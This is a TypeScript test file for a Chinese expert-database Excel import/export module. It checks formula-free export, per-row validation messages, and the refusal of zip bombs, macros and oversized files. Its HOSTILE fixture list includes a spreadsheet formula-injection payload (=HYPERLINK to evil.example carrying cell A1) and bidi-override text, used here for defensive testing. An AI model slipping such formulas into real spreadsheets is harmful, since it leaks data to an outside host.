import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import type { ExpertDetail } from '../models/expert.server'
import { buildWorkbook, dataRow, makeZip, membersOf, unzip } from '../../test/helpers/workbook-fixtures'
import { EXPERT_HEADERS, EXPERT_SHEET, MAX_EXPERT_ROWS, readExpertWorkbook, writeExpertTemplate, writeExpertWorkbook } from './expert-workbook.server'
import { problemText, type WorkbookProblem } from './framework-workbook.server'

const LABELS = ['财务', '审计', '教育', '政策研究']

/** Text a spreadsheet would run as a formula, or that XML or exceljs would mangle without care. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', '+1', '-2', '@SUM(A1:A9)', "'quoted", '表情 😀👍🏽', '字面量 _x0041_ 与 _x005F_', '\u202E从右向左', '<xml attr="&amp;">']

const OWN_FIELDS = {
  name: '王立新',
  employer: '浙江财经大学会计学院',
  title: 'senior',
  region: '浙江省杭州市',
  phone: '0571-87654321-801',
  email: 'wang.lixin@example.com',
  note: '',
} as const

function expert(patch: Partial<ExpertDetail> = {}): ExpertDetail {
  return {
    id: '01J0000000000000000000000A',
    userId: null,
    ...OWN_FIELDS,
    status: 'active',
    creditScore: null,
    blacklistedUntil: null,
    createdAt: '2026-03-01T00:00:00.000Z',
    updatedAt: '2026-03-01T00:00:00.000Z',
    version: 1,
    specialties: [
      { code: 'finance', label: '财务', active: true },
      { code: 'audit', label: '审计', active: true },
    ],
    employments: [
      { id: 'e1', expertId: 'x', organization: '浙江财经大学会计学院', fromDate: '2012-09-01', toDate: null },
      { id: 'e2', expertId: 'x', organization: '杭州市滨江区教育局', fromDate: '2005-09-01', toDate: '2012-08-31' },
    ],
    relations: [{ id: 'r1', expertId: 'x', kind: 'advisory', organization: '杭州某咨询有限公司', note: '独立董事|兼职' }],
    unavailability: [
      { id: 'u1', expertId: 'x', fromDate: '2026-05-01', toDate: '2026-05-05', note: '' },
      { id: 'u2', expertId: 'x', fromDate: '2026-07-01', toDate: '2026-07-15', note: '出国' },
    ],
    ...patch,
  }
}

const headerRow = (cells: Partial<Record<string, ExcelJS.CellValue>>) => dataRow(cells, EXPERT_HEADERS)
const GOOD = { 姓名: '李静', 工作单位: '浙江工商大学', 职称: '副高级', 专业领域: '财务', '手机/电话': '13812345678' }
const sheet = (rows: ExcelJS.CellValue[][], extra: { headers?: readonly string[]; headerRow?: number; sheetName?: string } = {}) =>
  buildWorkbook({ sheetName: EXPERT_SHEET, meta: [], headers: EXPERT_HEADERS, headerRow: 1, rows, ...extra })

async function problemsOf(bytes: Buffer): Promise<WorkbookProblem[]> {
  const read = await readExpertWorkbook(bytes)
  if (read.ok) throw new Error('expected a refusal')
  return read.problems
}

describe('export and template', () => {
  it('writes string cells only, no formulas, and reads back to the same records', async () => {
    const hostile = HOSTILE.map((text, i) =>
      expert({ name: `专家${i}${text}`.slice(0, 50), employer: text, region: text, note: `${text}\n第二行`, relations: [{ id: 'r', expertId: 'x', kind: 'other', organization: text, note: text }] }),
    )
    const bytes = await writeExpertWorkbook([expert(), ...hostile], LABELS)
    for (const [name, xml] of await unzip(bytes)) if (name.startsWith('xl/worksheets/')) expect(xml.toString('utf8'), name).not.toMatch(/<f[ >]/)
    const read = await readExpertWorkbook(bytes)
    if (!read.ok) throw new Error(read.problems.map(problemText).join('\n'))
    expect(read.rows.map((r) => r.row)).toEqual(Array.from({ length: hostile.length + 1 }, (_, i) => i + 2))
    expect(read.rows[0]).toEqual({
      row: 2,
      status: 'active',
      input: {
        ...OWN_FIELDS,
        specialties: ['财务', '审计'],
        employments: [
          { organization: '浙江财经大学会计学院', fromDate: '2012-09-01', toDate: null },
          { organization: '杭州市滨江区教育局', fromDate: '2005-09-01', toDate: '2012-08-31' },
        ],
        relations: [{ kind: 'advisory', organization: '杭州某咨询有限公司', note: '独立董事|兼职' }],
        unavailability: [
          { fromDate: '2026-05-01', toDate: '2026-05-05', note: '' },
          { fromDate: '2026-07-01', toDate: '2026-07-15', note: '出国' },
        ],
      },
    })
    hostile.forEach((h, i) => {
      const got = read.rows[i + 1]!.input
      expect(got.employer).toBe(h.employer)
      expect(got.note).toBe(h.note)
      expect(got.relations[0]).toEqual({ kind: 'other', organization: h.relations[0]!.organization, note: h.relations[0]!.note })
    })
  })

  it('the template documents every column, lists the specialties and reads as one example expert', async () => {
    const bytes = await writeExpertTemplate(LABELS)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer)
    const instructions = workbook.getWorksheet('填写说明')!
    const documented = new Set<string>()
    instructions.eachRow((row) => documented.add(String(row.getCell(1).value)))
    for (const h of EXPERT_HEADERS) expect(documented, h).toContain(h)
    expect(JSON.stringify(instructions.getSheetValues())).toContain('财务、审计、教育、政策研究')
    const read = await readExpertWorkbook(bytes)
    expect(read.ok && read.rows.map((r) => r.input.name)).toEqual(['示例专家'])
  })
})

describe('row-level problems', () => {
  it('names the row and column of every bad cell, and imports nothing', async () => {
    const problems = await problemsOf(
      await sheet([
        headerRow(GOOD),
        headerRow({ ...GOOD, 职称: '教授', '手机/电话': '1381234567', 邮箱: 'x@', 专业领域: '' }),
        headerRow({ ...GOOD, 任职经历: '杭州市滨江区教育局|2020-01-01|2019-01-01\n只写了单位', 关联关系: '表哥|某单位', 不可参加日期: '2026-02-30' }),
        headerRow({ ...GOOD, 姓名: '', 状态: '休假', 工作单位: '' }),
      ]),
    )
    expect(problems.map(problemText)).toEqual([
      '第 3 行「职称」：无法识别「教授」，可选：正高级、副高级、中级、其他',
      '第 3 行「手机/电话」：手机号应为 11 位数字（现为 10 位）',
      '第 3 行「邮箱」：邮箱格式不正确，如 name@example.com',
      '第 3 行「专业领域」：请至少选择一个专业领域',
      '第 4 行「任职经历」：第 1 条「杭州市滨江区教育局|2020-01-01|2019-01-0…」：截止日期 2019-01-01 早于起始日期 2020-01-01',
      '第 4 行「任职经历」：第 2 条「只写了单位」：应写作「单位|起始日期|截止日期」，仍在职的截止日期留空',
      '第 4 行「关联关系」：第 1 条「表哥|某单位」：无法识别关系类型「表哥」，可选：近亲属任职、持股或投资、顾问或兼职、其他',
      '第 4 行「不可参加日期」：第 1 条「2026-02-30」：起始日期格式应为 年-月-日',
      '第 5 行「状态」：无法识别「休假」，可选：在库、暂停、出库',
      '第 5 行「姓名」：请填写姓名',
      '第 5 行「工作单位」：请填写工作单位',
    ])
  })

  it('refuses what Excel may have mangled: dates, long numbers, formulas without a result; takes cached results', async () => {
    const workbook = await sheet([
      headerRow({ ...GOOD, 不可参加日期: new Date('2026-05-01T00:00:00Z') }),
      headerRow({ ...GOOD, 姓名: '赵六', '手机/电话': 13812345678 }),
      headerRow({ ...GOOD, 姓名: '钱七', '手机/电话': 1.3812345678901235e18 }),
      headerRow({ ...GOOD, 姓名: { formula: 'CONCAT("孙","八")' } as ExcelJS.CellValue }),
      headerRow({ ...GOOD, 姓名: { formula: 'CONCAT("周","九")', result: '周九' } as ExcelJS.CellValue, '手机/电话': '13812345679' }),
    ])
    const problems = (await problemsOf(workbook)).map(problemText)
    expect(problems).toEqual([
      '第 2 行「不可参加日期」：不能是日期，请将单元格设为文本格式后重新填写',
      '第 4 行「手机/电话」：手机/电话须以文本格式填写（超过15位的数字会丢失精度）',
      '第 5 行「姓名」：是公式但没有保存计算结果，请在 Excel 中重新计算并保存，或直接填写内容',
    ])
  })

  it('finds a moved header, reorders columns, skips blank rows; missing or doubled headers are named', async () => {
    const headers = [...EXPERT_HEADERS].reverse()
    const moved = await sheet([dataRow({ ...GOOD, 备注: '说明' }, headers), [], dataRow({ ...GOOD, 姓名: '王五', '手机/电话': '13912345678' }, headers)], {
      headers,
      headerRow: 3,
      sheetName: '我的专家',
    })
    const read = await readExpertWorkbook(moved)
    expect(read.ok && read.rows.map((r) => [r.row, r.input.name, r.input.note])).toEqual([
      [4, '李静', '说明'],
      [6, '王五', ''],
    ])
    const missing = await problemsOf(await sheet([headerRow(GOOD)], { headers: ['姓名', '工作单位'] }))
    expect(missing.map(problemText)).toEqual(['第 1 行：缺少表头列：职称、专业领域'])
    const doubled = await problemsOf(await sheet([headerRow(GOOD)], { headers: [...EXPERT_HEADERS, '邮箱'] }))
    expect(doubled.map(problemText)).toEqual(['第 1 行「邮箱」：表头重复'])
    expect((await problemsOf(await sheet([], { headers: ['甲', '乙'] })))[0]!.message).toMatch(/未找到工作表「专家库」的表头行/)
    expect((await problemsOf(await sheet([])))[0]!.message).toMatch(/未找到专家行/)
  })
})

describe('hostile files', () => {
  it('refuses non-workbooks, bombs, macros and too many rows with a message, never a throw', async () => {
    const refusal = async (bytes: Buffer) => (await problemsOf(bytes))[0]!.message
    expect(await refusal(Buffer.from('not a spreadsheet'))).toMatch(/不是有效的 \.xlsx/)
    expect(await refusal(makeZip([]))).toMatch(/不是有效的 \.xlsx/)
    expect(await refusal(makeZip([{ name: 'hello.txt', data: Buffer.from('hi') }]))).toMatch(/缺少/)
    expect(await refusal(makeZip([{ name: '[Content_Types].xml', data: Buffer.alloc(0) }, { name: 'xl/workbook.xml', data: Buffer.alloc(60 * 1024 * 1024, 0x20) }]))).toMatch(/压缩炸弹/)
    const members = await membersOf(await writeExpertTemplate(LABELS))
    expect(await refusal(makeZip([...members, { name: 'xl/vbaProject.bin', data: Buffer.from('VB') }]))).toMatch(/宏/)
    expect(await refusal(makeZip(members.map((m) => (m.name === 'xl/workbook.xml' ? { ...m, data: Buffer.from('<oops') } : m))))).toMatch(/无法读取/)
    const many = Array.from({ length: MAX_EXPERT_ROWS + 1 }, (_, i) => headerRow({ ...GOOD, 姓名: `专家${i}` }))
    expect(await refusal(await sheet(many))).toBe(`专家行数超过上限 ${MAX_EXPERT_ROWS}（共 ${MAX_EXPERT_ROWS + 1} 行），请分批导入`)
  })

  it('quotes cell text in messages without control characters or bidi overrides', async () => {
    const problems = await problemsOf(await sheet([headerRow({ ...GOOD, 职称: '\u001b[31m红\u202E字' })]))
    const line = problemText(problems[0]!)
    expect(line).not.toMatch(/[\u0000-\u001f\u202a-\u202e]/)
    expect(line).toContain('无法识别')
  })
})
